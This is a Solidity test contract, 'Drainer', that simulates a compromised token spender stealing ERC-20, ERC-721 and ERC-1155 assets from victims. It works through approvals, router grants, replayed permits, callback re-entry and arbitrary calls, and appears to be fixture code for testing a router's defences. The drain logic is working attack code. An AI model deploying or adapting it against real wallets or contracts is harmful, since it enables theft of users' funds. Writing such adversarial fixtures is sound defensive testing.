// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {IERC1155} from "@openzeppelin/contracts/token/ERC1155/IERC1155.sol";

import {IAllowanceTransfer} from "../interfaces/IAllowanceTransfer.sol";
import {ITokensRecipient} from "./interfaces/ITokensRecipient.sol";

/// @title Drainer
/// @notice TEST-ONLY. A spender contract after its compromise: whoever controls it (the
/// attacker) tries to pull everything it can from every victim through every path a spender
/// has — lingering ERC-20 approvals, ERC-721/1155 operator approvals, router grants (single and
/// batch), replayed permit signatures, re-entry from a token callback and an arbitrary call
/// from the spender's own address (the Transit Swap / RouteProcessor2 / Socket / LI.FI bug).
/// Loot goes to the attacker's address, except in the re-entry attack, where the drainer
/// itself must receive the tokens to get the callback.
/// @dev Every single-path function bubbles the token's or the router's error, so a test can
/// assert exactly why nothing moved; `drainEverything` catches and reports each failure so
/// that one defended path does not stop the sweep.
contract Drainer is ITokensRecipient {
    using SafeERC20 for IERC20;

    /// @notice A path a compromised spender can pull through.
    enum Path {
        Erc20Approval,
        Erc721Operator,
        Erc1155Operator,
        RouterGrant
    }

    /// @notice One ERC-721 collection and the token ids to try.
    struct Erc721Target {
        IERC721 collection;
        uint256[] tokenIds;
    }

    /// @notice One ERC-1155 collection and the token ids to try.
    struct Erc1155Target {
        IERC1155 collection;
        uint256[] ids;
    }

    /// @notice Everything the sweep tries, for every victim.
    struct Targets {
        address[] victims;
        IERC20[] erc20s;
        Erc721Target[] erc721s;
        Erc1155Target[] erc1155s;
        IAllowanceTransfer router;
        address[] routerTokens;
    }

    /// @dev The attack in progress while the drainer waits for a token's receive hook.
    struct Reentry {
        IAllowanceTransfer router;
        address token;
        address victim;
        uint160 amount;
        uint256 remaining;
    }

    /// @notice The caller is neither the attacker nor the drainer itself.
    error NotAttacker(address caller);
    /// @notice A receive hook fired outside a re-entry attack, or from another token.
    error UnexpectedHook(address token);

    /// @notice `amount` units (ERC-20/1155) or tokens (ERC-721) of `token` left `victim`
    /// through `path`, as measured by the loot's arrival.
    event Drained(Path indexed path, address indexed token, address indexed victim, uint256 amount);
    /// @notice The sweep's attempt through `path` was refused with `reason`.
    event DrainRefused(Path indexed path, address indexed token, address indexed victim, bytes reason);
    /// @notice A re-entrant pull from inside the token's hook succeeded or was refused.
    event Reentered(bool success, bytes reason);

    /// @notice Who controls the compromised spender and receives the loot.
    address public immutable attacker;
    /// @notice How many re-entrant pulls succeeded in the last re-entry attack.
    uint256 public reentriesSucceeded;
    /// @notice The revert data of the last refused re-entrant pull.
    bytes public lastReentryError;

    Reentry private _reentry;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    modifier onlyAttacker() {
        if (msg.sender != attacker && msg.sender != address(this)) revert NotAttacker(msg.sender);
        _;
    }

    // ----------------------------------------------------------------- the sweep

    /// @notice Tries every path against every victim; a refused path is reported and skipped.
    /// @return successfulDrains How many (path, token, victim) attempts moved anything.
    function drainEverything(Targets calldata targets) external onlyAttacker returns (uint256 successfulDrains) {
        for (uint256 v; v < targets.victims.length; ++v) {
            address victim = targets.victims[v];
            for (uint256 i; i < targets.erc20s.length; ++i) {
                IERC20 token = targets.erc20s[i];
                try this.drainErc20(token, victim) returns (uint256 stolen) {
                    if (stolen != 0) ++successfulDrains;
                } catch (bytes memory reason) {
                    emit DrainRefused(Path.Erc20Approval, address(token), victim, reason);
                }
            }
            for (uint256 i; i < targets.erc721s.length; ++i) {
                Erc721Target calldata target = targets.erc721s[i];
                try this.drainErc721(target.collection, victim, target.tokenIds) returns (uint256 stolen) {
                    if (stolen != 0) ++successfulDrains;
                } catch (bytes memory reason) {
                    emit DrainRefused(Path.Erc721Operator, address(target.collection), victim, reason);
                }
            }
            for (uint256 i; i < targets.erc1155s.length; ++i) {
                Erc1155Target calldata target = targets.erc1155s[i];
                try this.drainErc1155(target.collection, victim, target.ids) returns (uint256 stolen) {
                    if (stolen != 0) ++successfulDrains;
                } catch (bytes memory reason) {
                    emit DrainRefused(Path.Erc1155Operator, address(target.collection), victim, reason);
                }
            }
            for (uint256 i; i < targets.routerTokens.length; ++i) {
                address token = targets.routerTokens[i];
                try this.drainRouter(targets.router, token, victim) returns (uint256 stolen) {
                    if (stolen != 0) ++successfulDrains;
                } catch (bytes memory reason) {
                    emit DrainRefused(Path.RouterGrant, token, victim, reason);
                }
            }
        }
    }

    // --------------------------------------------------------- token approvals

    /// @notice Pulls as much of `token` as `victim`'s lingering approval to this spender and
    /// balance allow.
    /// @return stolen What reached the attacker (less than what left the victim for a
    /// fee-on-transfer token).
    function drainErc20(IERC20 token, address victim) external onlyAttacker returns (uint256 stolen) {
        uint256 amount = _min(token.allowance(victim, address(this)), token.balanceOf(victim));
        uint256 before = token.balanceOf(attacker);
        token.safeTransferFrom(victim, attacker, amount);
        stolen = token.balanceOf(attacker) - before;
        emit Drained(Path.Erc20Approval, address(token), victim, stolen);
    }

    /// @notice Takes every listed token id `victim` owns and this spender may move (operator
    /// or single-token approval).
    /// @return stolen How many tokens were taken.
    function drainErc721(IERC721 collection, address victim, uint256[] calldata tokenIds)
        external
        onlyAttacker
        returns (uint256 stolen)
    {
        bool operator = collection.isApprovedForAll(victim, address(this));
        for (uint256 i; i < tokenIds.length; ++i) {
            uint256 tokenId = tokenIds[i];
            if (collection.ownerOf(tokenId) != victim) continue;
            if (!operator && collection.getApproved(tokenId) != address(this)) continue;
            collection.transferFrom(victim, attacker, tokenId);
            ++stolen;
        }
        emit Drained(Path.Erc721Operator, address(collection), victim, stolen);
    }

    /// @notice Takes `victim`'s whole balance of every listed id through an operator approval.
    /// @return stolen The total units taken.
    function drainErc1155(IERC1155 collection, address victim, uint256[] calldata ids)
        external
        onlyAttacker
        returns (uint256 stolen)
    {
        address[] memory owners = new address[](ids.length);
        for (uint256 i; i < ids.length; ++i) {
            owners[i] = victim;
        }
        uint256[] memory amounts = collection.balanceOfBatch(owners, ids);
        for (uint256 i; i < amounts.length; ++i) {
            stolen += amounts[i];
        }
        collection.safeBatchTransferFrom(victim, attacker, ids, amounts, "");
        emit Drained(Path.Erc1155Operator, address(collection), victim, stolen);
    }

    // ------------------------------------------------------------- router paths

    /// @notice Pulls as much of `token` through the router as `victim`'s grant to this spender,
    /// the router's token allowance and the balance allow. The router decides whether the grant
    /// is live; its error is bubbled.
    /// @return stolen What reached the attacker.
    function drainRouter(IAllowanceTransfer router, address token, address victim)
        external
        onlyAttacker
        returns (uint256 stolen)
    {
        uint160 amount = _routerTake(router, token, victim);
        uint256 before = IERC20(token).balanceOf(attacker);
        router.transferFrom(victim, attacker, amount, token);
        stolen = IERC20(token).balanceOf(attacker) - before;
        emit Drained(Path.RouterGrant, token, victim, stolen);
    }

    /// @notice Pulls exactly `amount` of `token` from `victim` through the router's single
    /// transferFrom, however much the grant holds.
    function pullFromRouter(IAllowanceTransfer router, address token, address victim, uint160 amount)
        external
        onlyAttacker
    {
        router.transferFrom(victim, attacker, amount, token);
    }

    /// @notice Pulls exactly the listed transfers through the router's batch transferFrom.
    function pullBatchFromRouter(IAllowanceTransfer router, IAllowanceTransfer.AllowanceTransferDetails[] calldata transfers)
        external
        onlyAttacker
    {
        router.transferFrom(transfers);
    }

    /// @notice Submits a captured permit signature to the router as if it were fresh.
    function replayPermit(
        IAllowanceTransfer router,
        address owner,
        IAllowanceTransfer.PermitSingle calldata permitSingle,
        bytes calldata signature
    ) external onlyAttacker {
        router.permit(owner, permitSingle, signature);
    }

    // ----------------------------------------------------------------- re-entry

    /// @notice Pulls `amount` of a hook-calling token through the router into this contract and,
    /// from inside each receive hook, tries to pull `amount` again, `reentries` times in all,
    /// keeping whatever the router lets through; then hands everything to the attacker.
    /// The contract must have registered itself as its own hook on `token` first (`execute`).
    /// @return stolen What reached the attacker.
    function drainWithReentry(
        IAllowanceTransfer router,
        address token,
        address victim,
        uint160 amount,
        uint256 reentries
    ) external onlyAttacker returns (uint256 stolen) {
        reentriesSucceeded = 0;
        delete lastReentryError;
        _reentry = Reentry({router: router, token: token, victim: victim, amount: amount, remaining: reentries});
        router.transferFrom(victim, address(this), amount, token);
        delete _reentry;
        stolen = IERC20(token).balanceOf(address(this));
        IERC20(token).safeTransfer(attacker, stolen);
        emit Drained(Path.RouterGrant, token, victim, stolen);
    }

    /// @inheritdoc ITokensRecipient
    /// @dev The re-entry point: control arrives here in the middle of the router's transferFrom.
    function tokensReceived(address, address, address, uint256) external {
        Reentry storage reentry = _reentry;
        if (msg.sender != reentry.token) revert UnexpectedHook(msg.sender);
        if (reentry.remaining == 0) return;
        --reentry.remaining;
        try reentry.router.transferFrom(reentry.victim, address(this), reentry.amount, reentry.token) {
            ++reentriesSucceeded;
            emit Reentered(true, "");
        } catch (bytes memory reason) {
            lastReentryError = reason;
            emit Reentered(false, reason);
        }
    }

    // ------------------------------------------------------------ arbitrary call

    /// @notice Calls `target` with `data` from the spender's own address: the arbitrary-call
    /// path every incident in the threat model exploited. Reverts with the callee's error.
    function execute(address target, bytes calldata data) external onlyAttacker returns (bytes memory result) {
        bool success;
        (success, result) = target.call(data);
        if (!success) {
            assembly ("memory-safe") {
                revert(add(result, 32), mload(result))
            }
        }
    }

    // ----------------------------------------------------------------- internal

    function _routerTake(IAllowanceTransfer router, address token, address victim) private view returns (uint160) {
        (uint160 granted,,) = router.allowance(victim, token, address(this));
        uint256 reachable = _min(IERC20(token).allowance(victim, address(router)), IERC20(token).balanceOf(victim));
        return uint160(_min(granted, reachable));
    }

    function _min(uint256 a, uint256 b) private pure returns (uint256) {
        return a < b ? a : b;
    }
}
